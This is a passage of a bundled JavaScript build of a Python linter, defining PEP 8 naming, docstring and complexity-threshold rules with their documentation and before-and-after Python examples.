        return `Function name \`${b.name}\` should be lowercase`;
    },
});


/***/ }),

/***/ 7479:
/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.invalidVariableName = void 0;
const scopes_1 = __nccwpck_require__(7985);
const define_1 = __nccwpck_require__(5544);
const naming_conventions_1 = __nccwpck_require__(8208);
const VARIABLE_KINDS = new Set(['assignment', 'augmented', 'for', 'with', 'walrus']);
const TYPE_FACTORIES = /(^|\.)(TypeVar|NewType|namedtuple|NamedTuple|TypedDict|ParamSpec|TypeVarTuple)$/;
/** `X = TypeVar("X")`, `X: TypeAlias = ...`: type definitions, named like classes. */
function definesType(statement) {
    if (statement.type !== 'assignment')
        return false;
    const type = statement.childForFieldName('type');
    if (type && /(^|\.)TypeAlias$/.test(type.text.trim()))
        return true;
    const right = statement.childForFieldName('right');
    if (right?.type !== 'call')
        return false;
    const callee = right.childForFieldName('function');
    return !!callee && TYPE_FACTORIES.test(callee.text.replace(/\s+/g, ''));
}
function variableMessage(candidate, context) {
    const { name, scope } = candidate;
    if (candidate.declared || (0, naming_conventions_1.ignoredName)(context, name))
        return undefined;
    switch (scope.kind) {
        case 'function':
        case 'lambda':
            if ((0, naming_conventions_1.isLowercase)(name) || definesType(candidate.statement))
                return undefined;
            return `Variable \`${name}\` in a function should be lowercase`;
        case 'class':
            if (!(0, naming_conventions_1.isMixedCase)(name) || (0, naming_conventions_1.isDunder)(name) || /\bTypedDict\b/.test((0, naming_conventions_1.classBases)(scope)))
                return undefined;
            return `Class attribute \`${name}\` should not be mixedCase`;
        case 'module':
            if (!(0, naming_conventions_1.isMixedCase)(name))
                return undefined;
            return `Module variable \`${name}\` should not be mixedCase`;
        default:
            return undefined;
    }
}
exports.invalidVariableName = (0, define_1.defineRule)({
    meta: (0, naming_conventions_1.namingMeta)({
        id: 'invalid-variable-name',
        name: 'InvalidVariableName',
        shortDescription: 'A variable name does not follow PEP 8',
        fullDescription: 'PEP 8 names local variables in lowercase, and class attributes and module variables either in ' +
            'lowercase or in UPPER_CASE (constants), never in mixedCase. Names that break the convention ' +
            'read like classes or constants and make the code harder to scan.',
        aliases: ['N806', 'N815', 'N816', 'C0103'],
    }),
    docs: (0, naming_conventions_1.namingDocs)({
        title: 'A variable name does not follow PEP 8',
        why: `Three checks, as pep8-naming has them:

- A variable assigned in a function is lowercase (\`total\`, not \`Total\` or \`totalCount\`).
- A class attribute is not mixedCase (\`max_size\` or \`MAX_SIZE\`, not \`maxSize\`).
- A module variable is not mixedCase (\`default_timeout\` or \`DEFAULT_TIMEOUT\`, not
  \`defaultTimeout\`).`,
        example: `defaultTimeout = 10

class Client:
    maxSize = 5

    def send(self, data):
        Payload = encode(data)
        return self.post(Payload)`,
        exampleNote: '`defaultTimeout`, `maxSize` and `Payload` are reported.',
        fix: `Rename the variable: \`default_timeout\` (or \`DEFAULT_TIMEOUT\` for a constant), \`max_size\`,
\`payload\`.`,
        fixed: `DEFAULT_TIMEOUT = 10

class Client:
    max_size = 5

    def send(self, data):
        payload = encode(data)
        return self.post(payload)`,
        notReported: [
            `In functions: names declared \`global\` or \`nonlocal\` (they belong to another scope), type
  definitions (\`T = TypeVar("T")\`, \`UserId = NewType(...)\`, \`Point = namedtuple(...)\`,
  \`NamedTuple\`, \`TypedDict\`, \`ParamSpec\`, \`TypeVarTuple\` calls, \`X: TypeAlias = ...\`),
  imports, \`except ... as\` names and comprehension variables.`,
            'Class attributes of `TypedDict` classes (the keys are data), dunder names.',
            'Names matching `ignore-names`.',
        ],
        more: `## What counts

Assignments of every form (tuple unpacking, \`for\` and \`with\` targets, walrus, augmented and
annotated assignments, annotation-only declarations such as \`fooBar: int\`). Each assignment of a
badly named variable is reported.`,
    }),
    uses: [scopes_1.scopes],
    create(context) {
        const declarations = [];
        return {
            // `fooBar: int` binds nothing in the scope model, but pep8-naming judges the name.
            assignment(node) {
                if (!node.childForFieldName('right') && node.childForFieldName('type') && node.childForFieldName('left')?.type === 'identifier') {
                    declarations.push(node);
                }
            },
            end() {
                const model = context.analysis(scopes_1.scopes);
                const candidates = [];
                for (const b of model.bindings) {
                    if (!VARIABLE_KINDS.has(b.kind) || b.scope.kind === 'comprehension')
                        continue;
                    candidates.push({ name: b.name, node: b.node, scope: b.scope, statement: b.owner, declared: b.declared !== undefined });
                }
                for (const statement of declarations) {
                    const left = statement.childForFieldName('left');
                    const scope = (0, scopes_1.scopeAt)(model, left.startIndex);
                    const declared = scope.globals.has(left.text) || scope.nonlocals.has(left.text);
                    candidates.push({ name: left.text, node: left, scope, statement, declared });
                }
                for (const candidate of candidates) {
                    const message = variableMessage(candidate, context);
                    if (message)
                        context.report(candidate.node, message);
                }
            },
        };
    },
});


/***/ }),

/***/ 8878:
/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.missingClassDocstring = void 0;
/**
 * pydocstyle D101 / D106 (Ruff D101, D106; Pylint C0115): a public class, or a public class nested
 * in a public class, without a docstring. Reported on the class name. What "public" means is in
 * src/analysis/docstrings.ts.
 */
const docstrings_1 = __nccwpck_require__(3520);
const scopes_1 = __nccwpck_require__(7985);
const define_1 = __nccwpck_require__(5544);
exports.missingClassDocstring = (0, define_1.defineRule)({
    meta: {
        id: 'missing-class-docstring',
        name: 'MissingClassDocstring',
        kind: 'maintainability',
        shortDescription: 'A public class has no docstring',
        fullDescription: 'A public class (module-level, or nested in a public class) has no docstring, so its users learn ' +
            'what it represents only by reading its code. Private classes, classes defined in functions and ' +
            'classes left out of __all__ are not reported.',
        category: 'documentation',
        aliases: ['D101', 'D106', 'C0115'],
        precision: 'very-high',
        problemSeverity: 'recommendation',
        // A syntax error can hide the first statement or misplace a definition.
        needsCleanParse: true,
    },
    docs: {
        title: 'A public class has no docstring',
        why: `A public class is part of a module's interface: its docstring tells users what an instance
represents and how to use it, and it is what \`help()\`, IDEs and documentation generators show.`,
        example: `class RetryPolicy:
    def __init__(self, attempts, delay):
        ...`,
        fix: 'Make the first statement of the class body a string literal:',
        fixed: `class RetryPolicy:
    """How many times to retry a failed request, and how long to wait in between."""

    def __init__(self, attempts, delay):
        ...`,
        notReported: [
            `Classes that are not public, as pydocstyle and Ruff define it:
  - names starting with \`_\`, and classes nested in such a class;
  - classes defined inside a function;
  - module-level classes not listed in \`__all__\` when the module assigns \`__all__\`;
  - every class of a private module (\`_x.py\`, or inside a \`_x/\` folder).`,
            'Files with syntax errors are not checked.',
        ],
        more: 'A class nested in a public class (pydocstyle D106) is reported like a module-level one.',
    },
    uses: [scopes_1.scopes],
    create(context) {
        return {
            end() {
                const model = context.analysis(scopes_1.scopes);
                const visibility = (0, docstrings_1.moduleVisibility)(model, context.path);
                for (const scope of model.scopes) {
                    if (scope.kind !== 'class' || !(0, docstrings_1.isPublicDefinition)(scope, visibility))
                        continue;
                    if ((0, docstrings_1.definitionDocstring)(scope.node))
                        continue;
                    const nameNode = scope.node.childForFieldName('name');
                    if (!nameNode)
                        continue;
                    const nested = scope.parent?.kind === 'class';
                    const message = nested
                        ? `Public nested class \`${(0, docstrings_1.definitionName)(scope.parent)}.${nameNode.text}\` has no docstring`
                        : `Public class \`${nameNode.text}\` has no docstring`;
                    context.report(nameNode, message);
                }
            },
        };
    },
});


/***/ }),

/***/ 2428:
/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.missingFunctionDocstring = void 0;
/**
 * pydocstyle D102 / D103 (Ruff D102, D103; Pylint C0116): a public function or method without a
 * docstring; D105 (magic methods) and D107 (`__init__`) behind options, off by default. Reported
 * on the function name. What "public" means is in src/analysis/docstrings.ts.
 */
const docstrings_1 = __nccwpck_require__(3520);
const scopes_1 = __nccwpck_require__(7985);
const define_1 = __nccwpck_require__(5544);
/**
 * pydocstyle's magic methods: dunder names, except `__init__` (its own check, D107) and `__new__`
 * and `__call__`, which take arbitrary arguments and are documented like ordinary methods (D102).
 */
const isMagic = (name) => name.length > 4 && name.startsWith('__') && name.endsWith('__') && name !== '__init__' && name !== '__new__' && name !== '__call__';
exports.missingFunctionDocstring = (0, define_1.defineRule)({
    meta: {
        id: 'missing-function-docstring',
        name: 'MissingFunctionDocstring',
        kind: 'maintainability',
        shortDescription: 'A public function or method has no docstring',
        fullDescription: 'A public function or method has no docstring, so its callers learn what it does, expects and ' +
            'returns only by reading its code. Private and nested functions, methods of private classes, ' +
            'overload stubs, overrides and property setters are not reported; magic methods and __init__ ' +
            'only when enabled.',
        category: 'documentation',
        aliases: ['D102', 'D103', 'D105', 'D107', 'C0116'],
        precision: 'very-high',
        problemSeverity: 'recommendation',
        // A syntax error can hide the first statement or misplace a definition.
        needsCleanParse: true,
        options: {
            'include-magic-methods': {
                type: 'boolean',
                default: false,
                description: 'Also report magic methods such as `__eq__` (pydocstyle D105).',
            },
            'include-init': {
                type: 'boolean',
                default: false,
                description: 'Also report `__init__` methods (pydocstyle D107).',
            },
        },
    },
    docs: {
        title: 'A public function has no docstring',
        why: `A public function or method is called by code its author does not see. Its docstring says what it
does, what it expects and what it returns or raises, and is what \`help()\`, IDEs (on hover) and
documentation generators show.`,
        example: `def parse_duration(text):
    number, unit = text[:-1], text[-1]
    ...`,
        fix: 'Make the first statement of the body a string literal:',
        fixed: `def parse_duration(text):
    """Return the number of seconds in a duration such as "90s" or "5m"."""
    number, unit = text[:-1], text[-1]
    ...`,
        notReported: [
            `Functions that are not public, as pydocstyle and Ruff define it:
  - names starting with \`_\` (module-level dunder functions such as \`__getattr__\` too);
  - methods of a class that is not public (private name, defined in a function, left out of
    \`__all__\`, nested in a private class);
  - functions nested in functions;
  - module-level functions not listed in \`__all__\` when the module assigns \`__all__\`;
  - everything in a private module (\`_x.py\`, or inside a \`_x/\` folder);
  - \`@overload\` stubs, \`@override\` methods (the base method documents them), and property
    setters and deleters (\`@name.setter\`, \`@name.deleter\`: the getter documents the property).`,
            'Files with syntax errors are not checked.',
        ],
        more: `An f-string or bytes literal is not a docstring, so functions starting with one are reported.

## Options

- \`include-magic-methods\` (default \`false\`): also report magic methods such as \`__eq__\` or
  \`__len__\` (pydocstyle D105). \`__new__\` and \`__call__\` are not magic methods here: like
  pydocstyle, they are reported as ordinary public methods, since what they accept varies.
- \`include-init\` (default \`false\`): also report \`__init__\` methods (pydocstyle D107); many
  projects document the constructor's parameters in the class docstring instead.`,
    },
    uses: [scopes_1.scopes],
    create(context) {
        return {
            end() {
                const magic = context.option('include-magic-methods');
                const init = context.option('include-init');
                const model = context.analysis(scopes_1.scopes);
                const visibility = (0, docstrings_1.moduleVisibility)(model, context.path);
                for (const scope of model.scopes) {
                    if (scope.kind !== 'function' || !(0, docstrings_1.isPublicDefinition)(scope, visibility))
                        continue;
                    if ((0, docstrings_1.definitionDocstring)(scope.node))
                        continue;
                    const nameNode = scope.node.childForFieldName('name');
                    if (!nameNode)
                        continue;
                    const name = nameNode.text;
                    let message;
                    if (scope.parent?.kind === 'class') {
                        const qualified = `\`${(0, docstrings_1.definitionName)(scope.parent)}.${name}\``;
                        if (name === '__init__') {
                            if (!init)
                                continue;
                            message = `${qualified} has no docstring`;
                        }
                        else if (isMagic(name)) {
                            if (!magic)
                                continue;
                            message = `Magic method ${qualified} has no docstring`;
                        }
                        else
                            message = `Public method ${qualified} has no docstring`;
                    }
                    else
                        message = `Public function \`${name}\` has no docstring`;
                    context.report(nameNode, message);
                }
            },
        };
    },
});


/***/ }),

/***/ 2744:
/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.missingModuleDocstring = void 0;
/**
 * pydocstyle D100 / D104 (Ruff D100, D104; Pylint C0114): a public module or package without a
 * docstring. Ruff reports it at the start of the file; so does this rule, as a 0-length range at
 * line 1, column 1. D104 is the `__init__.py` case. Private modules (`_x.py`, or inside a `_x/`
 * folder) are not reported; see src/analysis/docstrings.ts.
 */
const docstrings_1 = __nccwpck_require__(3520);
const define_1 = __nccwpck_require__(5544);
exports.missingModuleDocstring = (0, define_1.defineRule)({
    meta: {
        id: 'missing-module-docstring',
        name: 'MissingModuleDocstring',
        kind: 'maintainability',
        shortDescription: 'A public module or package has no docstring',
        fullDescription: 'A public module (or a package, through its __init__.py) does not start with a docstring, so ' +
            'help(), IDEs and documentation tools have nothing to say about what it is for. Private modules ' +
            '(names starting with an underscore) are not reported.',
        category: 'documentation',
        aliases: ['D100', 'D104', 'C0114'],
        precision: 'very-high',
        problemSeverity: 'recommendation',
        // A syntax error can hide the first statement or misplace a definition.
        needsCleanParse: true,
    },
    docs: {
        title: 'A public module has no docstring',
        why: `The module docstring is what \`help(module)\`, IDEs and documentation generators show first: one
sentence saying what the module is for saves every reader from inferring it from the code. For a
package, the docstring of its \`__init__.py\` describes the package.`,
        example: `import json


def load(path):
    ...`,
        fix: 'Start the file with a string literal (after comments and a shebang, before any code):',
        fixed: `"""Read and write the application's settings files."""

import json


def load(path):
    ...`,
        notReported: [
            `Private modules: a file whose name, or one of whose folders, starts with \`_\` (\`_compat.py\`,
  \`_internal/util.py\`), except dunder names such as \`__init__.py\` and \`__main__.py\`.`,
            `A string that is not the first statement, an f-string or a bytes literal does not count as a
  docstring (Python does not store it in \`__doc__\`), so such modules are reported.`,
            'Files with syntax errors: the first statement may not be what it seems.',
        ],
    },
    create(context) {
        return {
            end() {
                if ((0, docstrings_1.isPrivateModulePath)(context.path))
                    return;
                if ((0, docstrings_1.docstringOf)(context.tree.rootNode))
                    return;
                const message = (0, docstrings_1.isPackageInit)(context.path) ? 'Public package has no docstring in its `__init__.py`' : 'Public module has no docstring';
                context.reportRange({ row: 0, column: 0 }, { row: 0, column: 0 }, message);
            },
        };
    },
});


/***/ }),

/***/ 8208:
/***/ ((__unused_webpack_module, exports) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.isDunder = exports.isLowercase = exports.DEFAULT_IGNORE_NAMES = void 0;
exports.ignoredName = ignoredName;
exports.isMixedCase = isMixedCase;
exports.isCapWords = isCapWords;
exports.isOverride = isOverride;
exports.classBases = classBases;
exports.inherits = inherits;
exports.namingMeta = namingMeta;
exports.namingDocs = namingDocs;
/** pep8-naming's default `ignore-names`. */
exports.DEFAULT_IGNORE_NAMES = [
    'setUp',
    'tearDown',
    'setUpClass',
    'tearDownClass',
    'setUpModule',
    'tearDownModule',
    'asyncSetUp',
    'asyncTearDown',
    'setUpTestData',
    'failureException',
    'longMessage',
    'maxDiff',
];
const IGNORE_NAMES = {
    type: 'string-list',
    default: exports.DEFAULT_IGNORE_NAMES,
    description: 'Names never reported, as glob patterns (`*` any characters, `?` one character). The default ' +
        "is pep8-naming's list: the unittest hooks and attributes (`setUp`, `tearDownClass`, `maxDiff`, ...).",
};
const globCache = new Map();
function globMatches(pattern, name) {
    let re = globCache.get(pattern);
    if (!re) {
        const body = pattern
            .replace(/[.+^${}()|[\]\\]/g, '\\$&')
            .replace(/\*/g, '.*')
            .replace(/\?/g, '.');
        re = new RegExp(`^${body}$`);
        globCache.set(pattern, re);
    }
    return re.test(name);
}
/** The name matches one of the rule's `ignore-names` patterns. */
function ignoredName(context, name) {
    return context.option('ignore-names').some((p) => globMatches(p, name));
}
const isLowercase = (name) => name.toLowerCase() === name;
exports.isLowercase = isLowercase;
const isDunder = (name) => name.length > 4 && name.startsWith('__') && name.endsWith('__');
exports.isDunder = isDunder;
/** `mixedCase`: starts (after leading underscores) with a lowercase letter and has an uppercase one. */
function isMixedCase(name) {
    const stripped = name.replace(/^_+/, '');
    return !(0, exports.isLowercase)(name) && stripped.length > 0 && stripped[0] !== stripped[0].toUpperCase();
}
/** `CapWords`: starts (after leading underscores) with an uppercase letter, no underscore after. */
function isCapWords(name) {
    const stripped = name.replace(/^_+/, '');
    if (stripped.length === 0)
        return true;
    return stripped[0] !== stripped[0].toLowerCase() && !stripped.includes('_');
}
/** The decorators of a function or class definition, as text. */
function decorators(definition) {
    const parent = definition.parent;
    if (parent?.type !== 'decorated_definition')
        return [];
    return parent.namedChildren.filter((c) => c?.type === 'decorator').map((d) => d.text.replace(/^@\s*/, '').trim());
}
const OVERRIDE = /(^|\.)(override|overload)$/;
/** The definition is decorated with `@override` or `@overload`: its names are chosen elsewhere. */
function isOverride(definition) {
    return decorators(definition).some((d) => OVERRIDE.test(d) && !d.includes('('));
}
/** The text of a class's base list, `(ast.NodeVisitor)`; empty without one. */
function classBases(scope) {
    return scope.node.childForFieldName('superclasses')?.text ?? '';
}
/** The class (or a class of this module it derives from, transitively) has a base matching `base`. */
function inherits(model, scope, base, depth = 0) {
    const bases = classBases(scope);
    if (base.test(bases))
        return true;
    if (depth > 8)
        return false;
    for (const name of bases.match(/[A-Za-z_][A-Za-z0-9_]*/g) ?? []) {
        const parent = model.scopes.find((s) => s.kind === 'class' && s !== scope && s.node.childForFieldName('name')?.text === name);
        if (parent && inherits(model, parent, base, depth + 1))
            return true;
    }
    return false;
}
/** The metadata every PEP 8 naming rule shares, around the rule's own. */
function namingMeta(meta) {
    return {
        id: meta.id,
        name: meta.name,
        kind: 'maintainability',
        shortDescription: meta.shortDescription,
        fullDescription: meta.fullDescription,
        category: 'naming',
        aliases: meta.aliases,
        precision: 'very-high',
        problemSeverity: 'recommendation',
        options: { 'ignore-names': IGNORE_NAMES },
    };
}
const NAMING_MORE = `## Options

\`ignore-names\` (\`[tool.tendril.rules.<rule-id>]\`): glob patterns of names never reported. The
default is pep8-naming's list, the \`unittest\` hooks and attributes: \`setUp\`, \`tearDown\`,
\`setUpClass\`, \`tearDownClass\`, \`setUpModule\`, \`tearDownModule\`, \`asyncSetUp\`,
\`asyncTearDown\`, \`setUpTestData\`, \`failureException\`, \`longMessage\`, \`maxDiff\`.

## How it combines with \`inconsistent-naming\`

The PEP 8 naming rules judge each name against PEP 8. \`inconsistent-naming\`, when enabled,
judges names against the style the module itself uses most and stays silent on names one of these
rules already reports, so a name never gets two notes for one problem.`;
/** A naming rule's docs, followed by the sections every PEP 8 naming rule shares. */
function namingDocs(docs) {
    return { ...docs, more: docs.more ? `${docs.more.trim()}\n\n${NAMING_MORE}` : NAMING_MORE };
}


/***/ }),

/***/ 6378:
/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.tooManyArguments = void 0;
/** Pylint R0913: a function with more parameters than the threshold (default 5). */
const complexity_threshold_1 = __nccwpck_require__(1063);
exports.tooManyArguments = (0, complexity_threshold_1.thresholdRule)({
    meta: {
        id: 'too-many-arguments',
        name: 'TooManyArguments',
        shortDescription: 'A function has more parameters than the threshold',
        fullDescription: 'A function declares more parameters than the threshold allows (positional-only, ordinary and ' +
            'keyword-only, self and cls included, as Pylint counts them). Long parameter lists are hard to ' +
            'call correctly and usually mean the function does too much.',
        aliases: ['R0913', 'PLR0913'],
        precision: 'very-high',
    },
    docs: {
        title: 'A function takes too many arguments',
        why: `A function with many parameters is hard to call correctly (which argument goes where?), hard to
test in all combinations, and often does several jobs at once.

Counted as Pylint counts them (R0913): positional-only, ordinary and keyword-only parameters,
\`self\` and \`cls\` included. \`*args\` and \`**kwargs\` are not counted, and neither are names
Pylint ignores by default: those starting with \`_\`, \`ignored_\` or \`unused_\`.`,
        example: `def connect(host, port, user, password, timeout, retries):
    ...`,
        fix: `Group parameters that travel together into an object (a dataclass such as \`Credentials\` or
\`Options\`), give rarely used parameters defaults behind a \`*\` so callers name them, or split the
function. The threshold is the \`max-args\` option (default 5, Pylint's).`,
        fixed: `def connect(address, credentials, *, timeout=10, retries=3):
    ...`,
        notReported: ['Functions at or below the threshold, and lambdas.'],
    },
    option: 'max-args',
    defaultThreshold: 5,
    optionDescription: 'Report functions with more parameters than this.',
    measure: (m) => m.arguments,
    describe: (m, v) => `\`${m.name}\` has ${v} arguments`,
});


/***/ }),

/***/ 2412:
/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.tooManyBranches = void 0;
/** Pylint R0912: a function with more branches than the threshold (default 12). */
const complexity_threshold_1 = __nccwpck_require__(1063);
exports.tooManyBranches = (0, complexity_threshold_1.thresholdRule)({
    meta: {
        id: 'too-many-branches',
        name: 'TooManyBranches',
        shortDescription: 'A function has more branches than the threshold',
        fullDescription: 'A function has more branches (if, elif and else arms, loops and their else, except handlers, ' +
            'try-else and finally) than the threshold allows, counted as Pylint counts them. Every branch is a ' +
            'case to read and to test.',
        aliases: ['R0912', 'PLR0912'],
        precision: 'very-high',
    },
    docs: {
        title: 'A function has too many branches',
        why: `Each branch is a separate case the reader must follow and a test must cover. Counted as Pylint 3
counts them (R0912): an \`if\`, each \`elif\` and an \`else\` count 1 each, except that an \`else\`
holding only an \`if\` counts like an \`elif\` (nothing for the \`else\` itself); a \`for\` or
\`while\` counts 1 and its \`else\` 1; each \`except\` handler, the \`else\` of a \`try\` and its
\`finally\` count 1 each. \`async for\` and \`try\` with \`except*\` count nothing, as in Pylint.
Branches of nested functions count for those functions, not for the one that contains them.`,
        example: `def handle(event):
    if event.kind == "open":
        ...
    elif event.kind == "close":
        ...
    elif event.kind == "read":
        ...
    elif event.kind == "write":
        ...
    elif event.kind == "seek":
        ...
    elif event.kind == "flush":
        ...
    elif event.kind == "lock":
        ...
    elif event.kind == "unlock":
        ...
    elif event.kind == "rename":
        ...
    elif event.kind == "delete":
        ...
    elif event.kind == "chmod":
        ...
    elif event.kind == "chown":
        ...
    else:
        ...`,
        exampleNote: 'Thirteen branches: the `if`, eleven `elif` and the `else`.',
        fix: `Dispatch through a dictionary of handlers, move groups of cases into helper functions, or use
polymorphism. The threshold is the \`max-branches\` option (default 12, Pylint's).`,
        fixed: `HANDLERS = {"open": on_open, "close": on_close, "read": on_read, "write": on_write}


def handle(event):
    handler = HANDLERS.get(event.kind, on_unknown)
    return handler(event)`,
        notReported: ['Functions at or below the threshold.'],
    },
    option: 'max-branches',
    defaultThreshold: 12,
    optionDescription: 'Report functions with more branches than this.',
    measure: (m) => m.branches,
    describe: (m, v) => `\`${m.name}\` has ${v} branches`,
});


/***/ }),

/***/ 9502:
/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.tooManyNestedBlocks = void 0;
/** Pylint R1702: blocks nested deeper than the threshold (default 5) in a function. */
const complexity_threshold_1 = __nccwpck_require__(1063);
exports.tooManyNestedBlocks = (0, complexity_threshold_1.thresholdRule)({
    meta: {
        id: 'too-many-nested-blocks',
        name: 'TooManyNestedBlocks',
        shortDescription: 'A function nests blocks deeper than the threshold',
        fullDescription: 'A function nests if, for, while and try blocks deeper than the threshold allows, ' +
            'measured as Pylint measures it. Deeply nested code is hard to follow because every level ' +
            'adds a condition the reader must remember.',
        aliases: ['R1702', 'PLR1702'],
        precision: 'very-high',
    },
    docs: {
        title: 'Blocks are nested too deeply',
        why: `Deep nesting forces the reader to remember every enclosing condition and loop to understand one
line. Measured as Pylint measures it (R1702): the deepest nesting of \`if\`, \`for\`, \`while\` and
\`try\` blocks in the function; an \`elif\` or \`else\` stays at the level of its \`if\`, and a
\`try\` with its handlers, \`else\` and \`finally\` is one level. A \`with\` is no level, and Pylint
starts counting again from 1 inside a \`with\`, an \`except\` handler, a \`match\` case or an
\`async for\`, and after a nested function. Blocks of a nested function count for that function
only.`,
        example: `def scan(paths):
    for path in paths:
        if path:
            for line in read(path):
                if line:
                    try:
                        if line[0] == "#":   # depth 6
                            ...
                    except ValueError:
                        ...`,
        fix: `Return or \`continue\` early instead of wrapping the rest in a condition, and extract the inner
loops into functions. The threshold is the \`max-nested-blocks\` option (default 5, Pylint's).`,
        fixed: `def scan(paths):
    for path in paths:
        if not path:
            continue
        for line in read(path):
            scan_line(line)


def scan_line(line):
    if not line:
        return
    try:
        if line[0] == "#":   # depth 2
            ...
    except ValueError:
        ...`,
        notReported: ['Functions whose deepest nesting is at or below the threshold. One finding per function, on its name, with the deepest level reached.'],
    },
    option: 'max-nested-blocks',
    defaultThreshold: 5,
    optionDescription: 'Report functions whose blocks are nested deeper than this.',
    measure: (m) => m.nestedBlocks,
    describe: (m, v) => `\`${m.name}\` nests blocks ${v} deep`,
});


/***/ }),

/***/ 6762:
/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.tooManyStatements = void 0;
/** Pylint R0915: a function with more statements than the threshold (default 50). */
const complexity_threshold_1 = __nccwpck_require__(1063);
exports.tooManyStatements = (0, complexity_threshold_1.thresholdRule)({
    meta: {
        id: 'too-many-statements',
        name: 'TooManyStatements',
        shortDescription: 'A function has more statements than the threshold',
        fullDescription: 'A function body holds more statements than the threshold allows, counted as Pylint counts ' +
            'them. Long functions do several things at once and are hard to read, test and reuse.',
        aliases: ['R0915', 'PLR0915'],
        precision: 'very-high',
    },
    docs: {
        title: 'A function has too many statements',
        why: `A long function does many things, and a reader has to hold all of them in mind. Counted as Pylint 3
counts them (R0915): the function itself counts 1, and every statement in its body at any depth
counts 1, nested function and class bodies included; an \`if\` or a \`try\` counts as its branches
(so an \`if\` with an \`else\` counts 2, a \`try\` with a \`finally\` 1), and each \`except\` handler
counts once more. Pylint does not count \`return\` statements, the \`for\`/\`while\` line or its
\`else\`, the \`def\`/\`class\` line of a nested function or class, or docstrings.`,
        example: `def main():
    parser = argparse.ArgumentParser(description="Summarise sales files.")
    parser.add_argument("paths", nargs="+")
    parser.add_argument("--output", default="report.txt")
    parser.add_argument("--currency", default="EUR")
    parser.add_argument("--minimum", type=float, default=0.0)
    parser.add_argument("--title", default="Sales report")
    parser.add_argument("--verbose", action="store_true")
    args = parser.parse_args()
    if args.verbose:
        logging.basicConfig(level=logging.DEBUG)

    rows = []
    for path in args.paths:
        logging.debug("reading %s", path)
        try:
            with open(path, newline="") as handle:
                rows.extend(csv.DictReader(handle))
        except OSError as error:
            logging.error("cannot read %s: %s", path, error)
            sys.exit(1)
    logging.info("read %d rows", len(rows))

    totals = {}
    counts = {}
    skipped = 0
    for row in rows:
        amount = float(row["amount"])
        if amount < args.minimum:
            skipped += 1
            continue
        if row["currency"] != args.currency:
            amount = convert(amount, row["currency"], args.currency)
        region = row["region"].strip().title()
        totals[region] = totals.get(region, 0.0) + amount
        counts[region] = counts.get(region, 0) + 1
    logging.debug("%d rows skipped", skipped)

    regions = sorted(totals, key=totals.get, reverse=True)
    grand_total = sum(totals.values())
    average = grand_total / len(rows) if rows else 0.0
    width = max((len(region) for region in regions), default=6)

    lines = []
    lines.append(f"{args.title} ({args.currency})")
    lines.append("=" * 40)
    for region in regions:
        share = totals[region] / grand_total * 100 if grand_total else 0.0
        lines.append(f"{region:<{width}} {totals[region]:>12.2f} {share:5.1f}%")
        lines.append(f"{'':<{width}} {counts[region]:>12} sales")
    lines.append("-" * 40)
    lines.append(f"{'Total':<{width}} {grand_total:>12.2f}")
    lines.append(f"{'Average':<{width}} {average:>12.2f}")
    lines.append(f"{skipped} rows below {args.minimum} skipped")

    with open(args.output, "w") as out:
        out.write("\\n".join(lines) + "\\n")
    logging.info("wrote %s", args.output)
    print(f"{len(rows)} rows, {len(regions)} regions")`,
        exampleNote: `\`main\` counts 51 statements. The usual case is longer still: a 200-line \`main()\` that parses
arguments, reads files, transforms data and writes a report.`,
        fix: `Extract each step into a function with a descriptive name; the long function becomes a short
sequence of calls. The threshold is the \`max-statements\` option (default 50, Pylint's).`,
        fixed: `def main():
    args = parse_arguments()
    if args.verbose:
        logging.basicConfig(level=logging.DEBUG)
    rows = read_rows(args.paths)
    totals, counts, skipped = summarise(rows, args.minimum, args.currency)
    report = format_report(args, totals, counts, skipped)
    write_report(args.output, report)
    print(f"{len(rows)} rows, {len(totals)} regions")`,
        notReported: ['Functions at or below the threshold. Blank lines, comments and docstring length do not matter: statements are counted, not lines.'],
    },
    option: 'max-statements',
    defaultThreshold: 50,
    optionDescription: 'Report functions with more statements than this.',
    measure: (m) => m.statements,
    describe: (m, v) => `\`${m.name}\` has ${v} statements`,
});


/***/ }),

/***/ 9673:
/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.unusedImport = void 0;
exports.unusedImportMessage = unusedImportMessage;
/**
 * pyflakes F401 / Ruff F401 / Pylint W0611: an imported name that nothing reads.
 *
 * Built on the shared scope model (src/analysis/scopes.ts); see there for how reads are resolved.
 * Semantics, decided against pyflakes and Ruff (checked with Ruff's WebAssembly build), precision
 * first:
 *
 * - One finding per imported name, on the name: the dotted name (`os.path` in `import os.path`),
 *   or the alias (`np` in `import numpy as np`).
 * - `import a.b` binds `a`: any read of `a` uses it, and the message names `a.b`. It is also used
 *   when a used alias of an enclosing package (`import a as x`) sits in the same scope: it loads
 *   the submodule that `x.b` reaches (Ruff agrees).
 * - All bindings of a name in one scope form a group (split at `del`); a read of any member uses
 *   them all. So `try: import json / except ImportError: json = None`, imports in both branches
 *   of an `if`, or a re-import of a name in use are fine when the name is read. When nothing reads
 *   the group, only its last binding is judged, and reported if it is an import, exactly like
 *   pyflakes and Ruff: the earlier ones are redefinitions (F811), and a `# noqa` written for those
 *   tools stays on the right line. So `import os` then `os = 1` with no read is not reported here.
 * - Reads count wherever they are: later in the module, in functions defined anywhere (their
 *   bodies run after the module), decorators, defaults, annotations, string annotations,
 *   f-strings, class bases and keywords, `del x`, and the strings of `__all__` (including
 *   `__all__ += [...]`, `.extend([...])` and `.append(...)`, which Ruff does not read).
 * - Never reported: `__future__` imports, `import a as a` / `from m import a as a` (the explicit
 *   re-export idiom), star imports, imports in a scope that calls `locals()` (or bare `vars()`),
